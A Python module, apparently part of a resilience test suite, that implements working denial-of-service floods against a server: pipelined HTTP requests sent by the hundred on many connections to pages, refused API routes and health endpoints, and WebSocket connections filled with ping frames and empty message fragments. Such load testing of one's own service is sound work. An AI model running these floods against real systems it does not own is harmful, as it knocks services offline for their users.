"""Attacks that go below the protocol: requests by the hundred in one write, frames without end."""

from __future__ import annotations

import asyncio
import os
import struct
from collections.abc import Awaitable, Callable
from typing import Final

from attacker import SERVER, Attacker, for_ever

LINES: Final = 90
"""Connections that one flood holds."""
AT_ONCE: Final = 200
"""Requests in one write."""
PONG: Final = 0x8A
PING: Final = 0x89


async def drain(reader: asyncio.StreamReader) -> None:
    """Take all that is answered, as fast as it comes."""
    while await reader.read(1 << 20):
        pass


async def pipelined(attacker: Attacker, path: str) -> None:
    """The same request by the hundred, on many connections, without waiting for answers."""
    request = f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * AT_ONCE

    async def flood() -> None:
        reader, writer = await attacker.line()
        taking = asyncio.create_task(drain(reader))
        try:
            while not taking.done():
                writer.write(request)
                await writer.drain()
        finally:
            taking.cancel()
            writer.close()

    await asyncio.gather(*(for_ever(flood, 0.05) for _ in range(LINES)))


async def pages(attacker: Attacker) -> None:
    """The page itself, and what is no page, as fast as they are answered."""
    await asyncio.gather(pipelined(attacker, "/"), pipelined(attacker, "/nowhere"))


async def refusals(attacker: Attacker) -> None:
    """Requests that go on long after they were refused."""
    await pipelined(attacker, "/api/tables")


async def health(attacker: Attacker) -> None:
    """What tells how the server is, asked by a stranger."""
    await asyncio.gather(
        *(pipelined(attacker, path) for path in ("/healthz", "/readyz", "/metrics"))
    )


def framed(opcode: int, payload: bytes) -> bytes:
    """A frame as clients send them: masked."""
    mask = os.urandom(4)
    hidden = bytes(byte ^ mask[n % 4] for n, byte in enumerate(payload))
    return struct.pack("!BB", opcode, 0x80 | len(payload)) + mask + hidden


async def frames(attacker: Attacker) -> None:
    """Sockets full of pings and of messages in the smallest pieces: no commands, all of them."""
    ticket = await attacker.table()
    path = f"/api/tables/{ticket['table']}/socket"
    hello = (
        f"GET {path} HTTP/1.1\r\nHost: {SERVER}:{attacker.port}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n"
    ).encode()
    greeting = framed(0x81, b'{"do":"hello","id":"h","token":null}')
    pings = framed(PING, b"x" * 100) * AT_ONCE
    pieces = framed(0x01, b"") + framed(0x00, b"") * AT_ONCE

    async def flood(noise: bytes) -> None:
        reader, writer = await attacker.line()
        writer.write(hello + greeting)
        taking = asyncio.create_task(drain(reader))
        try:
            while not taking.done():
                writer.write(noise)
                await writer.drain()
                noise = noise.replace(framed(0x01, b""), b"", 1)
        finally:
            taking.cancel()
            writer.close()

    await asyncio.gather(
        *(for_ever(lambda: flood(pings), 0.1) for _ in range(20)),
        *(for_ever(lambda: flood(pieces), 0.1) for _ in range(20)),
    )


FLOODS: Final[dict[str, Callable[[Attacker], Awaitable[None]]]] = {
    "pages": pages,
    "refusals": refusals,
    "health": health,
    "frames": frames,
}
